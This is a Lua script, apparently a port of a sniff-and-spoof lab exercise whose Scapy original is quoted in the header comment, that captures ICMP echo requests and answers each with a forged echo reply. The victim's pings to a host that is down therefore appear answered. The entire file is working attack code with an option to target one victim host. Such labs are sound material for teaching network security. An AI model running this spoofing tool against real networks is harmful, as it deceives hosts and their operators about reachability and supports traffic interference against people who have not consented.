-- sniff_spoof_icmp.lua - sniff ICMP echo requests and answer each with a
-- forged echo reply (addresses swapped, same id, seq and data): the
-- victim's pings to a host that is down come back "answered".
--   Scapy: def spoof_pkt(pkt): ... send(IP(src=pkt[IP].dst, dst=pkt[IP].src)/
--                ICMP(type=0, id=pkt[ICMP].id, seq=pkt[ICMP].seq)/pkt[Raw].load)
--          sniff(filter='icmp and src host victim', prn=spoof_pkt)
local o = require("pkt.cli").parse(arg, "Answer sniffed ICMP echo requests with forged replies.", {
  { "iface", "i", "interface to sniff on (default: the first one up)" },
  { "victim", "v", "only answer requests from this host (default: any)" },
  { "count", "c", "stop after this many replies (0: never)", default = 0, number = true },
  { "timeout", "t", "stop after this many seconds (0: never)", default = 0, number = true },
})

local filter = "icmp[icmptype] == icmp-echo"
if o.victim then filter = filter .. " and src host " .. o.victim end

local spoofed = 0
local function spoof_pkt(pkt)
  local ip, icmp = pkt[IP], pkt[ICMP]
  local reply = IP{src=ip.dst, dst=ip.src} / ICMP{type="echo-reply", id=icmp.id, seq=icmp.seq}
  if pkt[Raw] then reply = reply / pkt[Raw].load end
  send(reply, {iface=o.iface, verbose=false})
  spoofed = spoofed + 1
  return ("spoofed reply %s > %s seq %d"):format(ip.dst, ip.src, icmp.seq)
end

sniff{iface=o.iface, filter=filter, prn=spoof_pkt, store=false,
      count=o.count > 0 and o.count or nil, timeout=o.timeout > 0 and o.timeout or nil,
      started_callback=function() print("waiting for echo requests: " .. filter) io.stdout:flush() end}
print(("%d replies spoofed"):format(spoofed))
